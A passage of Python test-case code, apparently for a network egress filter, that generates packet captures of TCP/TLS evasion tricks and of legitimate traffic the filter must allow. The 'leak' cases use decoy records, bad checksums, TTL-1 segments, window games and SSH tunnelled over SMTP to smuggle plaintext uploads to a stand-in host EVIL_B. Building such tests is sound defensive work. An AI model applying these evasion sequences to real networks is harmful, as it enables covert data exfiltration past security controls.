    cap = Capture()
    t = ETcp(cap, S1, 42463, E2M, 443, isn=563)
    t.syn()
    t.cseq += 1
    t.sseq += 1
    t.ack(True)
    t.send(True, hello(n))
    t.send(True, marked_record(passm(n), n))
    t.send(True, marked_record(b"more", n + "2", 900))
    return cap, {"pass": [passm(n)]}


@case
def case_app_http_lower_connect(n):
    """Office: "connect www.example.org:443 HTTP/1.1" to a proxy port (3128), then the tunnel."""
    return connect_flow(n, 42436, 536,
                        b"connect www.example.org:443 HTTP/1.1\r\nHost: www.example.org:443\r\n\r\n")


@case
def case_app_http_tab_absform(n):
    """Office: "GET<TAB>http://www.example.org/<TAB>HTTP/1.1" to a proxy port (3128)."""
    cap = Capture()
    http_flow(cap, 42437, 537, 3128, http_req(b"www.example.org", leak(n),
                                              line=b"GET\thttp://www.example.org/\tHTTP/1.1"), leak(n))
    return cap, {"leak": [leak(n)]}


# The receiver's bounds on an old ACK, round four of the red team: Linux
# takes an ACK back to min(max_window, bytes_acked) behind snd_una (so
# never before the receiver's stream start: 6.1.67+, upstream 3d501dd326fb),
# takes no window from an old ACK (tcp_ack's old_ack path), and reads the
# last of two Window Scale options. And what real stacks send that such a
# check must let through: a resolver's first answer acknowledging only the
# first of two pipelined queries, 0-RTT early data the server's first
# flight does not acknowledge yet, a zone transfer.

class WinTcp(ETcp):
    """ETcp whose every frame carries the client's (wc) or server's (ws)
    window field, and the given SYN options."""

    def __init__(self, *a, wc=64240, ws=64240, syn_opts=None, **kw):
        super().__init__(*a, **kw)
        self.wc, self.ws = wc, ws
        if syn_opts is not None:
            self.SYN_OPTS = syn_opts

    def frame(self, from_client, flags, payload=b"", seq=None, ack=None, options=None, gap=None):
        self.raw(from_client, flags, payload, seq=seq, ack=ack, options=options, gap=gap)

    def raw(self, from_client, flags, payload=b"", window=None, **kw):
        if window is None:
            window = self.wc if from_client else self.ws
        ETcp.raw(self, from_client, flags, payload, window=window, **kw)


def win_session(cap, cport, isn, n, **kw):
    t = WinTcp(cap, S1, cport, E2M, 443, isn=isn, rtt_us=20000, **kw)
    t.handshake()
    start = t.sseq
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, tls_appdata(n + "req", 180))
    t.data(False, tls_appdata(n + "resp", 700))
    return t, start


def win_decoy(t, n, ack):
    """The decoy record (window 777) with the given ACK, the server's
    challenge ACK, then plaintext HTTP at the same sequence number."""
    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
    decoy = tls_appdata(n + "decoy", len(http) - 5)
    base = t.cseq
    t.raw(True, "PA", decoy, seq=base, ack=ack & 0xFFFFFFFF, window=777)
    t.raw(False, "A", seq=t.sseq, ack=base)
    t.raw(True, "PA", http, seq=base)
    t.cseq = base + len(http)
    t.raw(False, "A")
    t.data(False, tls_appdata(n + "more", 120))
    t.close()


def bulk(t, n, count):
    """count records of 1400 bytes from the server, every other one acknowledged."""
    for k in range(count):
        t.raw(False, "PA", tls_appdata(n + "bulk%d" % k, 1400), gap=100)
        t.sseq += 1405
        if k % 2:
            t.raw(True, "A")
    t.raw(True, "A")


@case
def case_after_insert_oldack_start(n):
    """The decoy record's ACK 500 bytes before the server's first byte
    (within the window: bytes the server never sent)."""
    cap = Capture()
    t, start = win_session(cap, 42438, 538, n)
    win_decoy(t, n, start - 500)
    return cap, {"leak": [leak(n)]}


@case
def case_after_insert_oldack_inflate(n):
    """Client window 156 << 7; 60 KB from the server, acknowledged; a bare ACK
    one byte old with window 65535 (no window is taken from an old ACK);
    then the decoy's ACK 40000 behind."""
    cap = Capture()
    t, _ = win_session(cap, 42439, 539, n, wc=156)
    bulk(t, n, 42)
    t.raw(True, "A", ack=(t.sseq - 1) & 0xFFFFFFFF, window=65535)
    win_decoy(t, n, t.sseq - 40000)
    return cap, {"leak": [leak(n)]}


@case
def case_after_insert_wscale_twice(n):
    """The client's SYN carries Window Scale 14, then 0 (the last counts);
    windows of 5000; 20 KB from the server, acknowledged; the decoy's ACK
    10000 behind."""
    cap = Capture()
    t, _ = win_session(cap, 42440, 540, n, wc=5000,
                       syn_opts=[("MSS", 1460), ("SAckOK", b""), ("WScale", 14), ("WScale", 0)])
    bulk(t, n, 15)
    win_decoy(t, n, t.sseq - 10000)
    return cap, {"leak": [leak(n)]}


@case
def case_early_data_ok(n):
    """TLS 1.3 0-RTT: the ClientHello and an early-data record back to back;
    the server's first flight acknowledges the ClientHello only."""
    cap = Capture()
    t = WinTcp(cap, S1, 42443, E2M, 443, isn=543, rtt_us=20000, wc=502, ws=502)
    t.handshake()
    h = hello(n)
    c0 = t.cseq
    t.send(True, h)
    t.send(True, marked_record(passm(n), n + "early", 200))
    flight = server_hello_flight(n)
    t.raw(False, "PA", flight, ack=c0 + len(h))
    t.sseq += len(flight)
    t.ack(True)
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(False, tls_appdata(n + "resp", 300))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_dns_tcp_pipe_ok(n):
    """DNS over TCP: two queries pipelined; the resolver's first segment is
    its answer to the first, sent before the second reached it."""
    cap = Capture()
    t = ETcp(cap, S1, 42442, RESOLVER, 53, isn=542, rtt_us=4000)
    t.handshake()
    q1, a1 = dns_pair(E2M_NAME, "A", 0x5621, E2M)
    q2, a2 = dns_pair(E2M_NAME, "AAAA", 0x5622, E2M6)
    c0 = t.cseq
    t.send(True, q1)
    t.send(True, q2, gap=1000)
    t.raw(False, "PA", a1, ack=c0 + len(q1))
    t.sseq += len(a1)
    t.ack(True)
    t.data(False, a2)
    t.close()
    return cap, {"pass": [a2[2:]]}


@case
def case_dns_tcp_axfr_ok(n):
    """DNS over TCP: a zone transfer whose later answer messages carry no
    question (RFC 5936 2.2, as BIND sends them)."""
    cap = Capture()
    t = ETcp(cap, S1, 42441, RESOLVER, 53, isn=541, rtt_us=4000)
    t.handshake()
    qd = DNSQR(qname="customs.example", qtype="AXFR")
    q = bytes(DNS(id=7, qd=qd))
    t.data(True, struct.pack("!H", len(q)) + q)
    rr = DNSRR(rrname="customs.example", type="A", rdata="192.0.2.1")
    m1 = bytes(DNS(id=7, qr=1, aa=1, qd=qd, an=rr))
    recs = b"".join(bytes(DNSRR(rrname="h%d.customs.example" % i, type="A", rdata="192.0.2.%d" % i))
                    for i in range(2, 40))
    m2 = struct.pack("!HHHHHH", 7, 0x8400, 0, 38, 0, 0) + recs
    m3 = struct.pack("!HHHHHH", 7, 0x8400, 0, 1, 0, 0) + bytes(rr)
    for m in (m1, m2, m3):
        t.send(False, struct.pack("!H", len(m)) + m)
    t.ack(True)
    t.close()
    return cap, {"pass": [m3]}


# Round five: a window its receiver closed (tcp_data_queue drops new bytes
# into it), and a second SYN-ACK before the server's first byte (an
# established client discards it, RFC 5961 4.2).

def zero_window(n, cport, isn, closed):
    """The inside client closes its window (its app stops reading); the
    server sends a decoy record into it (closed: the client drops it), the
    client opens the window, the server sends plaintext HTTP at the same
    sequence number. closed=False: the window stays open throughout, and
    the record is an ordinary one the client reads."""
    cap = Capture()
    t, _ = win_session(cap, cport, isn, n, wc=501)
    win = 0 if closed else 501
    t.raw(True, "A", window=win)
    base = t.sseq
    if closed:
        http = b"HTTP/1.1 200 OK\r\nContent-Length: 40\r\nX-Id: " + leak(n) + b"\r\n\r\n" + b"z" * 40
        first = tls_appdata(n + "decoy", len(http) - 5)
    else:
        first = marked_record(passm(n), n + "rec", 200)
    t.raw(False, "PA", first, seq=base)
    t.raw(True, "A", ack=base if closed else base + len(first), window=win)
    t.raw(True, "A", ack=base if closed else base + len(first), window=501, gap=200000)
    if closed:
        t.raw(False, "PA", http, seq=base)
        t.sseq = base + len(http)
    else:
        t.sseq = base + len(first)
    t.raw(True, "A")
    t.data(True, tls_appdata(n + "more", 120))
    t.data(False, tls_appdata(n + "tail", 300))
    t.close()
    return cap, {"leak": [leak(n)]} if closed else {"pass": [passm(n)]}


@case
def case_after_insert_zerowin(n):
    """The client closes its window; the server's decoy record goes into it
    (dropped by the client); the window opens; plaintext HTTP from the server."""
    return zero_window(n, 42444, 544, True)


@case
def case_zero_window_ok(n):
    """The client's window stays open; a record, then a window update: read."""
    return zero_window(n, 42445, 545, False)


@case
def case_zero_probe_ok(n):
    """The client's window closes; the server probes it (Linux: a bare ACK one
    byte back; Windows: one new byte, dropped and sent again); the window
    opens and the session goes on."""
    cap = Capture()
    t, _ = win_session(cap, 42446, 546, n, wc=501)
    t.raw(True, "A", window=0)
    rec = marked_record(passm(n), n + "after", 300)
    for i in range(2):
        t.raw(False, "A", seq=t.sseq - 1, gap=200000)
        t.raw(True, "A", window=0)
    t.raw(False, "PA", rec[:1], seq=t.sseq, gap=200000)
    t.raw(True, "A", window=0)
    t.raw(True, "A", window=501, gap=200000)
    t.raw(False, "PA", rec, seq=t.sseq)
    t.sseq += len(rec)
    t.raw(True, "A")
    t.data(True, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_resynack_early(n):
    """After the ClientHello, before the server's first byte, a SYN-ACK with
    a sequence number a million ahead (the client discards it), then
    plaintext HTTP from the server at its real next byte."""
    cap = Capture()
    t = ETcp(cap, S1, 42447, E2M, 443, isn=547, rtt_us=20000)
    t.handshake()
    t.data(True, hello(n))
    t.raw(False, "SA", seq=(t.sseq + 1000000 - 1) & 0xFFFFFFFF, ack=t.cseq,
          options=[("MSS", 1460), ("SAckOK", b""), ("WScale", 7)])
    t.raw(True, "A")
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 40\r\nX-Id: " + leak(n) + b"\r\n\r\n" + b"z" * 40)
    t.data(True, b"GET /x HTTP/1.1\r\nHost: a\r\n\r\n")
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_resynack_badsum(n):
    """The same SYN-ACK with a wrong TCP checksum."""
    cap = Capture()
    t = ETcp(cap, S1, 42448, E2M, 443, isn=548, rtt_us=20000)
    t.handshake()
    t.data(True, hello(n))
    t.raw(False, "SA", seq=(t.sseq + 1000000 - 1) & 0xFFFFFFFF, ack=t.cseq,
          options=[("MSS", 1460), ("SAckOK", b""), ("WScale", 7)], tcpkw={"chksum": 0x1234})
    t.raw(True, "A")
    for i in range(3):
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 40\r\nX-Id: " + leak(n) + b"\r\n\r\n" + b"z" * 40)
        t.raw(True, "A")
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_synack_again_ok(n):
    """The server's SYN-ACK twice (a retransmission: the same sequence
    number), then a genuine session."""
    cap = Capture()
    t = ETcp(cap, S1, 42449, E2M, 443, isn=549, rtt_us=20000)
    t.syn()
    t.cseq += 1
    for i in range(2):
        t.raw(False, "SA", seq=t.sseq, ack=t.cseq, options=[("MSS", 1460), ("SAckOK", b""), ("WScale", 7)],
              gap=300000)
    t.sseq += 1
    t.raw(True, "A")
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap, {"pass": [passm(n)]}


# Round six (red team): new bytes at the right edge of a window that is open
# but full (Linux tcp_data_queue drops them: TCPZeroWindowDrop), with its
# must-allow twins (a receiver with small windows; data that ends exactly at
# the edge); a social ClientHello whose two records have another record
# between them; IPv6 atomic fragments (RFC 6946); a foreign protocol behind a
# genuine SMTP start, either side, and genuine SMTP that looks like it
# (STARTTLS in a message body, pipelining, AUTH, dot-stuffing, BDAT).

@case
def case_after_insert_rightedge(n):
    """The server advertises a small window (field 8 << 7 = 1024 bytes); the
    client fills it exactly, then sends a decoy record starting at the right
    edge (no window left: the server drops it); the server's ACK closes the
    window, a window update opens it; plaintext HTTP at the decoy's sequence
    number."""
    cap = Capture()
    t = tls_established(cap, S1, 42450, E2M, 550, n)
    t.raw(False, "A", window=8)                  # right edge: cseq + 1024
    base = t.cseq
    fill = tls_appdata(n + "fill", 1024 - 5)
    t.raw(True, "PA", fill, seq=base)
    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
    decoy = tls_appdata(n + "decoy", len(http) - 5)
    assert len(fill) == 1024 and len(decoy) == len(http)
    t.raw(True, "PA", decoy, seq=base + 1024, gap=50)     # at the right edge: dropped there
    t.cseq = base + 1024
    t.raw(False, "A", window=0)                  # the fill taken, nothing more
    t.raw(False, "A", window=501, gap=200000)    # the window opens
    t.raw(True, "PA", http, seq=base + 1024)
    t.cseq = base + 1024 + len(http)
    t.raw(False, "A")
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_small_window_ok(n):
    """A genuine session with a server that advertises small windows: 1024
    in its SYN-ACK (never scaled), then fields 8, 1 and 16 (scaled by the
    shift 7 both SYNs offer: 1024, 128, 2048 bytes), a window update among
    them. The client never sends past the right edge, which never moves back."""
    cap = Capture()
    t = WinTcp(cap, S1, 42451, E2M, 443, isn=551, rtt_us=20000, ws=1024)
    t.handshake()
    edge = [t.cseq + 1024]

    def server(field, payload=b""):
        """The server's next frame (data, then the client's ACK, or a bare ACK) with window field."""
        t.ws = field
        if payload:
            t.data(False, payload)
        else:
            t.raw(False, "A")
        e = t.cseq + (field << 7)
        assert e >= edge[0], "a real receiver never moves the right edge back"
        edge[0] = e

    def client(*segs):
        for s in segs:
            assert t.cseq + len(s) <= edge[0], "past the right edge"
            t.send(True, s, gap=200)

    client(hello(n))
    server(8, server_hello_flight(n))
    client(CCS + tls_appdata(n + "fin", 53), marked_record(passm(n), n + "req", 300))
    server(8, tls_appdata(n + "resp", 400))
    client(tls_appdata(n + "up1", 895))          # 900 of 1024
    server(1)                                    # buffer nearly full: 128 bytes
    client(tls_appdata(n + "up2", 95))           # 100 of them
    server(1)
    server(16)                                   # window update: 2048
    rec = marked_record(passm(n) + b"2", n + "up3", 2000 - 5 - len(passm(n)) - 1)
    assert len(rec) == 2000
    client(rec[:1000], rec[1000:])               # 2000 of 2048
    server(8)
    server(8, tls_appdata(n + "resp2", 300))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"2"]}


@case
def case_rightedge_fill_ok(n):
    """The twin of after_insert_rightedge without the decoy: the client's
    record ends exactly at the right edge; the server's ACK closes the
    window, a window update opens it, the session goes on."""
    cap = Capture()
    t = tls_established(cap, S1, 42452, E2M, 552, n)
    t.raw(False, "A", window=8)                  # right edge: cseq + 1024
    base = t.cseq
    m1, m2 = passm(n) + b"fill", passm(n) + b"next"
    fill = marked_record(m1, n + "fill", 1024 - 5 - len(m1))
    assert len(fill) == 1024
    t.raw(True, "PA", fill, seq=base)
    t.cseq = base + 1024
    t.raw(False, "A", window=0)
    t.raw(False, "A", window=501, gap=200000)
    t.data(True, marked_record(m2, n + "next", 200))
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"pass": [m1, m2]}


def interleaved_social(n, cport, isn, between):
    """Office: an m.vk.com ClientHello in two handshake records cut inside
    the name, with the record `between` in between, all in one segment."""
    cap = Capture()
    m = hs_client_hello(n, sni=VK, sid=sid32(leak(n)))
    cut = m.find(VK.encode()) + 3
    tls_flow(cap, O1, cport, SOC, isn, n, send_whole(record(22, m[:cut]) + between + record(22, m[cut:])),
             leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_tlsrec_alert_social(n):
    """A warning alert (user_canceled) between the two records of the hello."""
    return interleaved_social(n, 42453, 553, record(21, b"\x01\x5a"))


@case
def case_tlsrec_ccs_social(n):
    """A ChangeCipherSpec record between the two records of the hello."""
    return interleaved_social(n, 42454, 554, record(20, b"\x01"))


@case
def case_v6_atomic_ok(n):
    """A genuine IPv6 e2m session whose client data segments each carry an
    atomic Fragment header (offset 0, M=0: RFC 6946), as a host sends after
    a Packet Too Big below 1280; the receiver takes each as a whole datagram."""
    cap = Capture()
    t = ETcp(cap, S6, 42455, E2M6, 443, isn=555, rtt_us=20000)

    def cdata(payload):
        pkt = (IPv6(src=S6, dst=E2M6) / IPv6ExtHdrFragment(offset=0, m=0, id=0x5151 + t.cseq)
               / TCP(sport=42455, dport=443, flags="PA", seq=t.cseq, ack=t.sseq, window=64240) / Raw(payload))
        cap.emit(l2(S6, E2M6) / pkt, 10000)
        t.cseq += len(payload)
        t.raw(False, "A")

    t.handshake()
    cdata(hello(n))
    t.data(False, server_hello_flight(n))
    cdata(CCS + tls_appdata(n + "fin", 53))
    cdata(marked_record(passm(n), n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    cdata(b"\x15\x03\x03\x00\x13" + prand(n + "cn", 19))
    t.close()
    return cap, {"pass": [passm(n)]}


def ssh_binary(seed, marker):
    """An SSH binary packet (RFC 4253 6: length, padding length, KEXINIT)
    with the marker inside its payload."""
    body = bytes([8, 20]) + prand(seed + "cookie", 16) + marker
    body += prand(seed + "kex", 300 - len(body))
    return struct.pack("!I", len(body)) + body


SSH_BANNER = b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"


@case
def case_smtp_tunnel_after_ehlo(n):
    """After the greeting and the EHLO exchange, the client sends an SSH
    banner (a line) and SSH binary packets; the server answers in SSH."""
    cap = Capture()
    t = ETcp(cap, S1, 42456, MAIL, 25, isn=556, rtt_us=4000)
    t.handshake()
    smtp_start(t, False)
    t.data(True, SSH_BANNER)
    t.data(False, SSH_BANNER)
    t.data(True, ssh_binary(n, leak(n)))
    t.data(True, ssh_binary(n + "2", leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_smtp_server_foreign(n):
    """After a genuine greeting and EHLO reply, the client's MAIL FROM is
    answered with an SSH banner and SSH binary packets from the server side."""
    cap = Capture()
    t = ETcp(cap, S1, 42457, MAIL, 25, isn=557, rtt_us=4000)
    t.handshake()
    smtp_start(t, False)
    t.data(True, b"MAIL FROM:<declarant@e2m.customs.example>\r\n")
    t.data(False, SSH_BANNER)
    t.data(False, ssh_binary(n, leak(n)))
    t.data(False, ssh_binary(n + "2", leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_smtp_body_starttls_ok(n):
    """A genuine plaintext session whose message quotes an SMTP transcript:
    a body line "STARTTLS" (the segment ends with it) and one starting with
    "220 ". Inside DATA they are message text (RFC 5321 4.1.4); the server
    answers nothing until the final "."."""
    cap = Capture()
    t = ETcp(cap, S1, 42458, MAIL, 25, isn=558, rtt_us=4000)
    t.handshake()
    smtp_start(t, False)
    for c, s in ((b"MAIL FROM:<declarant@e2m.customs.example>\r\n", b"250 2.1.0 Ok\r\n"),
                 (b"RCPT TO:<office@customs.example>\r\n", b"250 2.1.5 Ok\r\n"),
                 (b"DATA\r\n", b"354 End data with <CR><LF>.<CR><LF>\r\n")):
        t.data(True, c)
        t.data(False, s)
    t.data(True, b"Subject: transcript\r\n\r\nThe client then sent:\r\nSTARTTLS\r\n")
    t.data(True, b"and the server answered:\r\n220 2.0.0 Ready to start TLS\r\n" + passm(n) + b"\r\n.\r\n")
    t.data(False, b"250 2.0.0 Ok: queued as 4AB12\r\n")
    t.data(True, b"QUIT\r\n")
    t.data(False, b"221 2.0.0 Bye\r\n")
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_smtp_session_ok(n):
    """A genuine session as Postfix and Exim clients talk: a multi-line
    greeting; EHLO and its multi-line reply (PIPELINING, 8BITMIME, CHUNKING,
    AUTH); AUTH LOGIN; MAIL and RCPT pipelined, DATA after their replies
    (RFC 2920); a body with a dot-stuffed line, UTF-8, and a segment that
    ends in a line's leading dot; a second message in BDAT chunks (RFC 3030)
    whose bytes hold NUL and CR LF . CR LF; RSET; QUIT."""
    cap = Capture()
    t = ETcp(cap, S1, 42459, MAIL, 25, isn=559, rtt_us=4000)
    t.handshake()
    t.data(False, b"220-mail.customs.example ESMTP Postfix (Debian/GNU)\r\n"
                  b"220 mail.customs.example ready\r\n")
    t.data(True, b"EHLO ws-10.e2m.customs.example\r\n")
    t.data(False, b"250-mail.customs.example\r\n250-PIPELINING\r\n250-SIZE 10240000\r\n"
                  b"250-AUTH PLAIN LOGIN\r\n250-ENHANCEDSTATUSCODES\r\n250-8BITMIME\r\n"
                  b"250-CHUNKING\r\n250 SMTPUTF8\r\n")
    t.data(True, b"AUTH LOGIN\r\n")
    t.data(False, b"334 VXNlcm5hbWU6\r\n")
    t.data(True, base64.b64encode(b"declarant@e2m.customs.example") + b"\r\n")
    t.data(False, b"334 UGFzc3dvcmQ6\r\n")
    t.data(True, base64.b64encode(prand(n + "pw", 12)) + b"\r\n")
    t.data(False, b"235 2.7.0 Authentication successful\r\n")
    envelope = (b"MAIL FROM:<declarant@e2m.customs.example> BODY=8BITMIME SIZE=900\r\n"
                b"RCPT TO:<office@customs.example>\r\n")
    t.data(True, envelope)
    t.data(False, b"250 2.1.0 Ok\r\n250 2.1.5 Ok\r\n")
    t.data(True, b"DATA\r\n")
    t.data(False, b"354 End data with <CR><LF>.<CR><LF>\r\n")
    content = (b"From: Declarant <declarant@e2m.customs.example>\r\nTo: <office@customs.example>\r\n"
               b"Subject: =?UTF-8?Q?D=C3=A9claration_12?=\r\nMIME-Version: 1.0\r\n"
               b"Content-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
               + "Déclaration n° 12 – montant 1 200 €, Zollanmeldung für Ü-Waren\r\n".encode()
               + b"..hidden\r\n" + passm(n) + b"\r\n.\r\n")
    cut = content.find(b"\r\n..hidden") + 3      # the first segment ends in the line's first dot
    t.send(True, content[:cut], gap=200)
    t.send(True, content[cut:], gap=200)
    t.raw(False, "A")
    t.data(False, b"250 2.0.0 Ok: queued as 4AB12\r\n")
    t.data(True, envelope.replace(b"SIZE=900", b"SIZE=320"))
    t.data(False, b"250 2.1.0 Ok\r\n250 2.1.5 Ok\r\n")
    m2 = passm(n) + b"bdat"
    chunk = (b"From: <declarant@e2m.customs.example>\r\nTo: <office@customs.example>\r\n"
             b"Subject: chunked\r\n\r\n" + m2 + b"\x00\x01\x00\xff" + b"\r\n.\r\n")
    chunk += prand(n + "chunk", 300 - len(chunk))
    last = b"\r\nend of message!!\r\n"
    assert len(chunk) == 300 and len(last) == 20
    t.data(True, b"BDAT 300\r\n" + chunk)
    t.data(False, b"250 2.0.0 Ok: 300 bytes\r\n")
    t.data(True, b"BDAT 20 LAST\r\n" + last)
    t.data(False, b"250 2.0.0 Ok: queued as 4AB13\r\n")
    t.data(True, b"RSET\r\n")
    t.data(False, b"250 2.0.0 Ok\r\n")
    t.data(True, b"QUIT\r\n")
    t.data(False, b"221 2.0.0 Bye\r\n")
    t.close()
    return cap, {"pass": [passm(n), m2]}


def hole_replace(n, cport, isn, hole):
    """After the handshake: a record's first segment; then a hole in its
    body that the server lacks (hole: "gap", never sent; "badsum", sent with
    a wrong checksum); the rest of the body with the next record (read in
    order by us, queued out of order by the server); then one segment from
    the hole to the end, with plaintext where the next record was. The
    server takes that in-order segment and drops the queued one it covers
    (Linux tcp_ofo_queue, BSD tcp_reass): it reads the plaintext."""
    cap = Capture()
    t = tls_established(cap, S1, cport, E2M, isn, n)
    rec1 = tls_appdata(n + "c1", 600)
    rec2 = tls_appdata(n + "c2", 120)
    http = b"GET /up HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
    http += b"x" * (len(rec2) - len(http))
    assert len(http) == len(rec2)
    base = t.cseq
    t.raw(True, "PA", rec1[:100], seq=base)
    if hole == "badsum":
        t.raw(True, "PA", rec1[100:400], seq=base + 100, tcpkw={"chksum": 0xDEAD})
    else:
        t.raw(True, "PA", rec1[300:400], seq=base + 300)
    t.raw(True, "PA", rec1[400:] + rec2, seq=base + 400)
    t.raw(False, "A", ack=base + 100)
    t.raw(True, "PA", rec1[100:] + http, seq=base + 100)
    t.cseq = base + len(rec1) + len(rec2)
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_after_hole_gap_replace(n):
    """The hole is a gap inside the first record's body (never sent)."""
    return hole_replace(n, 42464, 564, "gap")


@case
def case_after_hole_badsum_replace(n):
    """The hole is a copy of the body with a wrong checksum."""
    return hole_replace(n, 42465, 565, "badsum")


def hole_replace_srv(n, cport, isn, hole):
    """hole_replace from the server's side (the twenty-first session: its
    TLS segments are no longer vetted, and those wholly inside a record's
    body no longer summed): a record's first segment; then a copy of its
    body that the client drops (hole: "badsum", a wrong checksum; "ttl", a
    TTL of 1; "hdr_badsum", the copy also carries the next record's header);
    the rest with the next record; then one segment from the hole on with
    plaintext where the next record was. The client reads the plaintext
    unless the header log refuses it."""
    cap = Capture()
    t = tls_established(cap, S1, cport, E2M, isn, n)
    rec1 = tls_appdata(n + "s1", 600)
    rec2 = tls_appdata(n + "s2", 120)
    http = b"HTTP/1.1 200 OK\r\nX-Cmd: " + leak(n) + b"\r\n\r\n"
    http += b"x" * (len(rec2) - len(http))
    assert len(http) == len(rec2)
    base = t.sseq
    t.raw(False, "PA", rec1[:100], seq=base)
    if hole == "badsum":
        t.raw(False, "PA", rec1[100:400], seq=base + 100, tcpkw={"chksum": 0xDEAD})
        t.raw(False, "PA", rec1[400:] + rec2, seq=base + 400)
    elif hole == "ttl":
        t.raw(False, "PA", rec1[100:400], seq=base + 100, ipkw={"ttl": 1})
        t.raw(False, "PA", rec1[400:] + rec2, seq=base + 400)
    else:
        t.raw(False, "PA", rec1[100:] + rec2, seq=base + 100, tcpkw={"chksum": 0xDEAD})
    t.raw(True, "A", ack=base + 100)
    t.raw(False, "PA", rec1[100:] + http, seq=base + 100)
    t.sseq = base + len(rec1) + len(rec2)
    t.data(True, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_srv_hole_badsum_replace(n):
    """The server's body copy with a wrong checksum (passed over unsummed)."""
    return hole_replace_srv(n, 54600, 600, "badsum")


@case
def case_srv_hole_ttl_replace(n):
    """The server's body copy with a TTL of 1 (not vetted)."""
    return hole_replace_srv(n, 54601, 601, "ttl")


@case
def case_srv_hole_hdr_badsum_replace(n):
    """The server's copy with the next header and a wrong checksum."""
    return hole_replace_srv(n, 54602, 602, "hdr_badsum")


@case
def case_srv_body_unsummed_ok(n):
    """A download of 16 KiB records, one server segment lost after us and
    sent again byte for byte, and one damaged on the way (a wrong checksum)
    and sent again: allowed, the records all read."""
    cap = Capture()
    t = tls_established(cap, S1, 54603, E2M, 603, n)
    data = b"".join(tls_appdata(n + "d%d" % k, 16384) for k in range(3))
    data += marked_record(passm(n), n + "m", 200)
    base = t.sseq
    segs = [(o, data[o:o + 1448]) for o in range(0, len(data), 1448)]
    for i, (o, sg) in enumerate(segs):
        if i == 5:
            bad = bytes([sg[0] ^ 0xff]) + sg[1:]
            t.raw(False, "PA", bad, seq=base + o, tcpkw={"chksum": 0xBEEF})
        t.raw(False, "PA", sg, seq=base + o)
        if i % 2:
            t.raw(True, "A", ack=base + o + len(sg))
    t.raw(False, "PA", segs[8][1], seq=base + segs[8][0])
    t.raw(True, "A", ack=base + len(data))
    t.sseq = base + len(data)
    t.data(True, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_after_hole_loss_ok(n):
    """A genuine loss after us: the server lacks a body segment of a record
    and the segment with the next record's header; it asks again (SACK) and
    the client sends both again, byte for byte; then a gap before us inside
    a body, filled by the sender's retransmission."""
    cap = Capture()
    t = tls_established(cap, S1, 42466, E2M, 566, n)
    rec1 = tls_appdata(n + "c1", 600)
    rec2 = marked_record(passm(n), n + "c2", 120)
    rec3 = tls_appdata(n + "c3", 900)
    data = rec1 + rec2 + rec3
    base = t.cseq
    for o in range(0, len(data), 300):
        t.raw(True, "PA", data[o:o + 300], seq=base + o)
    t.raw(False, "A", ack=base + 300)
    t.raw(False, "A", ack=base + 300)
    t.raw(True, "PA", data[300:900], seq=base + 300)
    t.raw(False, "A", ack=base + len(data))
    t.cseq = base + len(data)
    rec4 = tls_appdata(n + "c4", 700) + marked_record(passm(n) + b"2", n + "c5", 100)
    base = t.cseq
    t.raw(True, "PA", rec4[:200], seq=base)
    t.raw(True, "PA", rec4[400:600], seq=base + 400)
    t.raw(True, "PA", rec4[600:], seq=base + 600)
    t.raw(False, "A", ack=base + 200)
    t.raw(True, "PA", rec4[200:400], seq=base + 200)
    t.raw(False, "A", ack=base + 600)
    t.raw(True, "PA", rec4[600:], seq=base + 600, gap=200000)
    t.cseq = base + len(rec4)
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"2"]}


# Red team round 9 (helper, against e7dd89b): a new connection on the same
# ports under our old sequence state; bare-ACK stamps behind the next byte;
# PAWS drops a segment, not the flow.

def http_leak(n, size=None):
    h = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
    if size is not None:
        assert len(h) <= size
        h += b"x" * (size - len(h))
    return h


def reuse_plaintext(cap, t, n, old_next, gap, mss=1460, server_step=-300000, isn=None):
    """A new connection on the same ports, its ISN below our next byte
    (old_next; or isn, the first connection's own), then plaintext HTTP with
    the case's LEAK marker."""
    opts = [("MSS", mss), ("SAckOK", b""), ("WScale", 7)]
    t.cseq = (old_next - 5000) & 0xFFFFFFFF if isn is None else isn
    t.raw(True, "S", seq=t.cseq, options=opts, gap=gap)
    t.cseq += 1
    t.sseq = (t.sseq + server_step) & 0xFFFFFFFF
    t.raw(False, "SA", seq=t.sseq, options=opts)
    t.sseq += 1
    t.raw(True, "A")
    t.data(True, http_leak(n))
